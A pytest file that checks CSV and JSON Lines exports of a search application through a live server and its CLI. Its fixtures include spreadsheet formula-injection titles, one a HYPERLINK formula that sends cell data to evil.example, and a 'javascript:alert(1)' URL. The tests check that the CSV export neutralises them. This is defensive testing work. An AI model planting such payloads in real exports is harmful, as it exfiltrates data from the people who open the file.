"""Exports of search results (CSV, JSON Lines) through a real server and the real CLI."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from myrtille.index.export import COLUMNS
from myrtille.index.factory import open_index
from tests.web.conftest import AEROVOLT, Live, doc, signed_in, start_live

HOSTILE = {
    "d90": '=HYPERLINK("https://evil.example/?x="&A1;"clic")',
    "d91": "+33 6 12 34 56 78 réclame",
    "d92": "-2+3 formule",
    "d93": "@SUM(A1:A2)",
    "d94": "\tTabulé",
    "d95": "\rRetour",
}


def many_documents() -> list:
    """150 documents about Aérovolt (more than seven pages of 20), hostile titles included."""
    docs = [
        doc(
            100 + n,
            f"Aérovolt, épisode {n}",
            "Aérovolt; une suite.",
            age=n % 60,
            companies=[{"name": "Aérovolt; SAS", "siren": AEROVOLT}, {"name": "Hélicea"}],
            sectors=["aeronautics", "energy"],
            events=["acquisition", "hiring"],
            regions=["76"],
            departments=["31", "09"],
        )
        for n in range(150)
    ]
    for number, (key, title) in enumerate(HOSTILE.items()):
        hostile = doc(90 + number, title, "Aérovolt piégé.", age=1)
        hostile.id = key
        docs.append(hostile)
    # A stored URL that is not a web link is left out of the export.
    docs[0].url = "javascript:alert(1)"
    return docs


@pytest.fixture(scope="module")
def exporting(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Live]:
    with start_live(tmp_path_factory.mktemp("exports") / "data") as running:
        index = open_index(running.settings)
        index.index(many_documents())
        index.close()
        yield running


def total_of(live: Live, q: str) -> int:
    with live.client(live.key) as http:
        response = http.get("/api/v1/search", params={"q": q})
    assert response.status_code == 200, response.text
    return int(response.json()["total"])


def parsed_csv(body: bytes) -> list[dict[str, str]]:
    reader = csv.DictReader(io.StringIO(body.decode("utf-8"), newline=""))
    assert tuple(reader.fieldnames or ()) == COLUMNS
    return list(reader)


def test_csv_export_holds_every_match_not_one_page(exporting: Live) -> None:
    total = total_of(exporting, "aerovolt")
    assert total > 100
    with exporting.client(exporting.key) as http:
        response = http.get("/api/v1/search", params={"q": "aerovolt", "format": "csv"})
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == ('attachment; filename="myrtille-search.csv"')
    rows = parsed_csv(response.content)
    assert len(rows) == total
    assert len({row["id"] for row in rows}) == total
    # Newest first, as sort=date; published_at in UTC with a Z.
    dates = [row["published_at"] for row in rows]
    assert dates == sorted(dates, reverse=True) and dates[0].endswith("Z")
    episode = next(row for row in rows if row["title"] == "Aérovolt, épisode 7")
    assert episode["companies"] == f"{AEROVOLT}:Aérovolt, SAS;:Hélicea"
    assert episode["sectors"] == "aeronautics;energy"
    assert episode["events"] == "acquisition;hiring"
    assert episode["regions"] == "76" and episode["departments"] == "31;09"
    assert episode["url"] == "https://news.example/107" and episode["source"] == "eco-regions"
    assert episode["language"] == "fr"
    assert next(row for row in rows if row["id"] == "d100")["url"] == ""


def test_csv_neutralises_formulas_in_crawled_titles(exporting: Live) -> None:
    with exporting.client(exporting.key) as http:
        response = http.get("/api/v1/search", params={"q": "piégé", "format": "csv"})
    rows = {row["id"]: row["title"] for row in parsed_csv(response.content)}
    assert rows == {key: "'" + title for key, title in HOSTILE.items()}
    # JSON Lines is data, not a spreadsheet: titles as they are.
    with exporting.client(exporting.key) as http:
        response = http.get("/api/v1/search", params={"q": "piégé", "format": "jsonl"})
    titles = {r["id"]: r["title"] for r in map(json.loads, response.text.splitlines())}
    assert titles == HOSTILE


def test_jsonl_export_holds_every_match_one_object_per_line(exporting: Live) -> None:
    total = total_of(exporting, "aerovolt -piégé")
    with exporting.client(exporting.key) as http:
        response = http.get("/api/v1/search", params={"q": "aerovolt -piégé", "format": "jsonl"})
    assert response.status_code == 200
    assert response.headers["content-type"] == "application/x-ndjson"
    assert 'filename="myrtille-search.jsonl"' in response.headers["content-disposition"]
    assert response.content.endswith(b"\n")
    records = [json.loads(line) for line in response.content.decode("utf-8").split("\n")[:-1]]
    assert len(records) == total
    first = next(r for r in records if r["id"] == "d107")
    assert list(first) == list(COLUMNS)
    assert first["companies"] == [
        {"siren": AEROVOLT, "name": "Aérovolt; SAS"},
        {"siren": None, "name": "Hélicea"},
    ]
    assert first["events"] == ["acquisition", "hiring"] and first["departments"] == ["31", "09"]


def test_an_export_matching_nothing_is_an_empty_file(exporting: Live) -> None:
    with exporting.client(exporting.key) as http:
        as_csv = http.get("/api/v1/search", params={"q": "zzzinconnu", "format": "csv"})
        as_jsonl = http.get("/api/v1/search", params={"q": "zzzinconnu", "format": "jsonl"})
    assert as_csv.status_code == 200 and parsed_csv(as_csv.content) == []
    assert as_csv.content == (",".join(COLUMNS) + "\r\n").encode()
    assert as_jsonl.status_code == 200 and as_jsonl.content == b""


def test_export_errors_are_json_before_any_file(exporting: Live) -> None:
    with exporting.client(exporting.key) as http:
        bad = http.get("/api/v1/search", params={"q": "(aerovolt", "format": "csv"})
        unknown = http.get("/api/v1/search", params={"q": "a", "format": "xlsx"})
    with exporting.client() as http:
        anonymous = http.get("/api/v1/search", params={"q": "a", "format": "csv"})
    assert bad.status_code == 400 and bad.json()["error"] == "invalid_query"
    assert unknown.status_code == 400 and "format" in unknown.text
    assert anonymous.status_code == 401


def test_search_page_links_to_both_exports(exporting: Live) -> None:
    with exporting.client() as anonymous:
        # One page is public; every result is for agents, who come back after signing in.
        assert 'id="exports"' not in anonymous.get("/search", params={"q": "aerovolt"}).text
        refused = anonymous.get("/search/export", params={"q": "aerovolt", "format": "csv"})
        assert refused.status_code == 303 and refused.headers["location"].startswith("/signin")
    http = signed_in(exporting)
    page = http.get("/search", params={"q": "aerovolt"})
    assert page.status_code == 200
    assert 'href="/search/export?q=aerovolt&amp;format=csv"' in page.text
    assert 'href="/search/export?q=aerovolt&amp;format=jsonl"' in page.text
    exported = http.get("/search/export", params={"q": "aerovolt", "format": "csv"})
    http.close()
    assert exported.status_code == 200
    assert len(parsed_csv(exported.content)) == total_of(exporting, "aerovolt")


def run_cli(live: Live, tmp_path: Path, *args: str) -> subprocess.CompletedProcess[bytes]:
    config = tmp_path / "myrtille.yaml"
    config.write_text(f"data_dir: {live.settings.data_dir}\n", encoding="utf-8")
    return subprocess.run(
        [sys.executable, "-m", "myrtille", "--config", str(config), "search", *args],
        capture_output=True,
        timeout=120,
        env={**os.environ, "COLUMNS": "200"},
        check=False,
    )


@pytest.mark.parametrize("format", ["csv", "jsonl"])
def test_cli_exports_every_match_to_stdout(exporting: Live, tmp_path: Path, format: str) -> None:
    done = run_cli(exporting, tmp_path, "aerovolt", "--format", format)
    assert done.returncode == 0, done.stderr.decode()
    total = total_of(exporting, "aerovolt")
    if format == "csv":
        assert len(parsed_csv(done.stdout)) == total
    else:
        lines = done.stdout.decode("utf-8").splitlines()
        assert len([json.loads(line) for line in lines]) == total
